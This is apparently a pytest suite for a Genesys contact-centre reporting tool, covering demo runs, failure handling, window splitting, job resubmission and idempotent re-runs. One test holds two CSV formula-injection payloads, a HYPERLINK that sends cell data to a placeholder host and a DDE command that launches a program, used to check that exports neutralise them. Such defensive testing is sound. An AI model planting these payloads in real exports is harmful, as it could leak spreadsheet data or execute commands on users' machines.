"""`genesys-reports run` end to end: the demo, --json, failures that leave nothing behind, window
splits, and re-runs."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from app.errors import GenesysUnavailableError
from app.periods import explicit_period
from app.pipeline.run import run_report
from app.settings import Settings
from tests.genesys.conftest import Connect

REPO = Path(__file__).resolve().parents[2]


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "app", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        timeout=240,
        check=False,
    )


def _config(tmp_path: Path, **changes: Any) -> Path:
    document = yaml.safe_load((REPO / "settings.yaml").read_text())
    document["storage"]["directory"] = str(tmp_path / "reports")
    for section, values in changes.items():
        document.setdefault(section, {}).update(values)
    path = tmp_path / "settings.yaml"
    path.write_text(yaml.safe_dump(document))
    return path


def examples_lookback(examples: list[dict[str, object]], name: str) -> object:
    report = next(r for r in examples if r["name"] == name)
    return report.get("lookback", "PT6H")


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def test_the_demo_produces_every_example_report_in_its_grain(tmp_path: Path) -> None:
    """What `make demo` runs, on the committed settings, with no credentials."""
    examples = yaml.safe_load((REPO / "settings.yaml").read_text())["reports"]
    grains = {report["name"]: report.get("grain", "interval") for report in examples}
    # The examples show both grains (README "Will these numbers match Genesys?").
    assert set(grains.values()) == {"interval", "conversation"}
    config = _config(tmp_path, sandbox={"jobs": {"delay": "PT0.2S"}})
    result = _cli("run", "--config", str(config), "--json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    outcomes = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert [o["report"] for o in outcomes] == list(grains)
    for outcome in outcomes:
        grain = grains[outcome["report"]]
        assert outcome["status"] == "succeeded"
        listed = next(r for r in examples if r["name"] == outcome["report"])["formats"]
        assert [f["format"] for f in outcome["files"]] == listed
        for entry in outcome["files"]:
            path = Path(entry["path"])
            assert path.is_file() and (path.parent / "manifest.json").is_file()
            if entry["format"] == "json":
                document = orjson.loads(path.read_bytes())
                assert document["grain"] == grain
                if grain == "interval":
                    assert (
                        document["events_counted"]
                        == outcome["manifest"]["counts"]["events_counted"]
                    )
                    assert document["lookback"] == outcome["manifest"]["lookback"]
                else:
                    assert "events_counted" not in document and "lookback" not in document
        manifest = outcome["manifest"]
        assert manifest["grain"] == grain
        assert manifest["counts"]["conversations"] > 0
        if grain == "interval":
            # Every counted event belongs to a counted conversation: at least one each.
            assert manifest["counts"]["events_counted"] >= manifest["counts"]["conversations"]
            assert manifest["lookback"] == examples_lookback(examples, outcome["report"])
        else:
            assert "events_counted" not in manifest["counts"] and manifest["lookback"] is None
        assert {"start", "end"} <= set(outcome["period"])
    daily = Path(outcomes[0]["files"][0]["path"]).parent
    header = (daily / f"queue-daily_{daily.name}.csv").read_text().splitlines()[0]
    assert header.startswith("queue_id,queue_name,media_type,conversations,offered")
    assert not list((tmp_path / "reports").rglob("*staging*"))


def test_a_failing_network_leaves_nothing_and_names_window_and_cause(tmp_path: Path) -> None:
    config = _config(
        tmp_path,
        genesys={"retry_attempts": 2, "retry_backoff": "PT0.01S", "retry_backoff_max": "PT0.02S"},
        sandbox={
            # The data is never "available" to jobs, so the run uses the detail query.
            "jobs": {"availability_lag": "P3650D"},
            "faults": [
                {"endpoint": "details_query", "script": ["ok"] * 30},
                {"endpoint": "details_query", "kind": "503"},
            ],
        },
    )
    result = _cli(
        "run",
        "--config",
        str(config),
        "--report",
        "queue-daily",
        "--start",
        "2024-05-01T00:00+02:00",
        "--end",
        "2024-05-02T00:00+02:00",
        cwd=tmp_path,
    )
    assert result.returncode == 1
    assert "report queue-daily, period" in result.stderr
    assert "window 2024-05-" in result.stderr and "HTTP 503" in result.stderr
    assert "gave up after 2 attempts" in result.stderr
    reports = tmp_path / "reports"
    assert _files(reports) == [] if reports.exists() else True


def _settings(tmp_path: Path, **report: Any) -> Settings:
    return Settings.model_validate(
        {
            "storage": {"directory": str(tmp_path / "reports")},
            "reports": [
                {
                    "name": "numbers",
                    "timezone": "UTC",
                    "group_by": ["queue_id"],
                    "metrics": ["conversations", "answered", "avg_handle_seconds"],
                    "fetch": "query",
                    **report,
                }
            ],
        }
    )


PERIOD = explicit_period(
    datetime(2024, 5, 1, 8, tzinfo=UTC), datetime(2024, 5, 1, 12, tzinfo=UTC), "UTC"
)


async def test_windows_refused_as_too_large_are_split(connect: Connect, tmp_path: Path) -> None:
    plain = await connect(sandbox={"volume": {"peak_per_hour": 120}})
    settings = _settings(tmp_path / "plain")
    expected = await run_report(settings, settings.reports[0], PERIOD, plain.client)
    limited = await connect(
        sandbox={"volume": {"peak_per_hour": 120}, "limits": {"max_results": 60}},
        genesys={"page_size": 20},
    )
    settings = _settings(tmp_path / "split")
    outcome = await run_report(settings, settings.reports[0], PERIOD, limited.client)
    assert outcome.manifest["counts"]["splits"] > 0
    assert outcome.manifest["counts"]["windows_fetched"] > 4
    assert outcome.manifest["splits"][0]["window"].startswith("2024-05-01T")
    csv = [path.read_bytes() for f, path in outcome.files if f.format == "csv"]
    csv_expected = [path.read_bytes() for f, path in expected.files if f.format == "csv"]
    assert csv == csv_expected and csv[0].count(b"\n") > 2


async def test_names_that_are_formulas_are_text_in_the_csv_and_unchanged_in_the_json(
    connect: Connect, tmp_path: Path
) -> None:
    connected = await connect(sandbox={"volume": {"peak_per_hour": 60}})
    org = connected.sandbox.org
    hostile = [
        '=HYPERLINK("http://x/?"&B3,"ok")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    renamed = tuple(
        dataclasses.replace(queue, name=hostile[n % 2]) for n, queue in enumerate(org.queues)
    )
    connected.sandbox.org = dataclasses.replace(org, queues=renamed)
    settings = _settings(tmp_path, formats=["csv", "json"])
    outcome = await run_report(settings, settings.reports[0], PERIOD, connected.client)

    by_format = {f.format: path for f, path in outcome.files}
    table = list(csv.DictReader(io.StringIO(by_format["csv"].read_text(), newline="")))
    served = {queue.id for queue in renamed}  # deleted queues are named by their id
    names = {row["queue_name"] for row in table if row["queue_id"] in served}
    assert names == {"'" + text for text in hostile}
    rows = orjson.loads(by_format["json"].read_bytes())["rows"]
    assert {row["queue_name"] for row in rows if row["queue_id"] in served} == set(hostile)


async def test_jobs_and_queries_give_the_same_report(connect: Connect, tmp_path: Path) -> None:
    connected = await connect(
        sandbox={"volume": {"peak_per_hour": 120}, "jobs": {"delay": "PT0.1S"}},
        genesys={"job_poll_interval": "PT0.05S"},
    )
    by_query = _settings(tmp_path / "q", fetch="query")
    by_jobs = _settings(tmp_path / "j", fetch="jobs")
    first = await run_report(by_query, by_query.reports[0], PERIOD, connected.client)
    second = await run_report(by_jobs, by_jobs.reports[0], PERIOD, connected.client)
    assert second.manifest["fetch"] == "jobs" and first.manifest["fetch"] == "query"
    digests = [
        {f.format: f.sha256 for f, _ in outcome.files if f.format == "csv"}
        for outcome in (first, second)
    ]
    assert digests[0] == digests[1]


async def test_failed_and_expired_jobs_are_resubmitted(connect: Connect, tmp_path: Path) -> None:
    connected = await connect(
        sandbox={
            "volume": {"peak_per_hour": 120},
            "jobs": {"delay": "PT0.05S"},
            "faults": [{"endpoint": "jobs_submit", "script": ["job_failed", "job_expired"]}],
        },
        genesys={"job_poll_interval": "PT0.02S"},
    )
    by_query = _settings(tmp_path / "q", fetch="query")
    by_jobs = _settings(tmp_path / "j", fetch="jobs")
    expected = await run_report(by_query, by_query.reports[0], PERIOD, connected.client)
    outcome = await run_report(by_jobs, by_jobs.reports[0], PERIOD, connected.client)

    assert outcome.manifest["counts"]["jobs_resubmitted"] == 2
    sandbox = connected.sandbox
    assert [r.fault for r in sandbox.requests("jobs_submit")] == ["job_failed", "job_expired", None]
    assert len(sandbox.requests("jobs_delete")) == 3 and not sandbox.jobs.jobs
    assert [f.sha256 for f, _ in outcome.files if f.format == "csv"] == [
        f.sha256 for f, _ in expected.files if f.format == "csv"
    ]


async def test_jobs_failing_every_time_fail_the_run(connect: Connect, tmp_path: Path) -> None:
    from app.errors import GenesysJobError
    from app.pipeline.fetch import JOB_RESUBMITS

    connected = await connect(
        sandbox={
            "jobs": {"delay": "PT0S"},
            "faults": [{"endpoint": "jobs_submit", "kind": "job_failed"}],
        },
        genesys={"job_poll_interval": "PT0.02S"},
    )
    settings = _settings(tmp_path, fetch="jobs")
    with pytest.raises(GenesysJobError, match="ended FAILED"):
        await run_report(settings, settings.reports[0], PERIOD, connected.client)
    assert len(connected.sandbox.requests("jobs_submit")) == 1 + JOB_RESUBMITS
    assert len(connected.sandbox.requests("jobs_delete")) == 1 + JOB_RESUBMITS
    assert not (tmp_path / "reports").exists() or _files(tmp_path / "reports") == []


async def test_a_rerun_is_idempotent(connect: Connect, tmp_path: Path) -> None:
    connected = await connect(sandbox={"volume": {"peak_per_hour": 120}})
    settings = _settings(tmp_path, formats=["csv", "json", "ndjson.gz"])
    first = await run_report(settings, settings.reports[0], PERIOD, connected.client)
    second = await run_report(settings, settings.reports[0], PERIOD, connected.client)

    def digests(outcome: Any) -> dict[str, str]:
        return {f.format: f.sha256 for f, _ in outcome.files if f.format != "json"}

    assert digests(first) == digests(second) and "ndjson.gz" in digests(first)
    directory = second.manifest_path.parent if second.manifest_path else tmp_path
    assert sorted(p.name for p in directory.iterdir()) == sorted(
        [*(f.name for f, _ in second.files), "manifest.json"]
    )


async def test_a_failed_run_raises_and_commits_nothing(connect: Connect, tmp_path: Path) -> None:
    connected = await connect(
        sandbox={"faults": [{"endpoint": "details_query", "kind": "504"}]},
        genesys={"retry_attempts": 2},
    )
    settings = _settings(tmp_path)
    with pytest.raises(GenesysUnavailableError) as caught:
        await run_report(settings, settings.reports[0], PERIOD, connected.client)
    assert "2024-05-01T" in str(caught.value)
    reports = tmp_path / "reports"
    assert not reports.exists() or _files(reports) == []


async def test_jobs_past_the_watermark_are_refused(connect: Connect, tmp_path: Path) -> None:
    from app.errors import ReportsError

    connected = await connect(sandbox={"jobs": {"availability_lag": "P3650D"}})
    settings = _settings(tmp_path, fetch="jobs")
    with pytest.raises(ReportsError, match="available to async jobs only up to"):
        await run_report(settings, settings.reports[0], PERIOD, connected.client)
    assert not (tmp_path / "reports").exists() or _files(tmp_path / "reports") == []
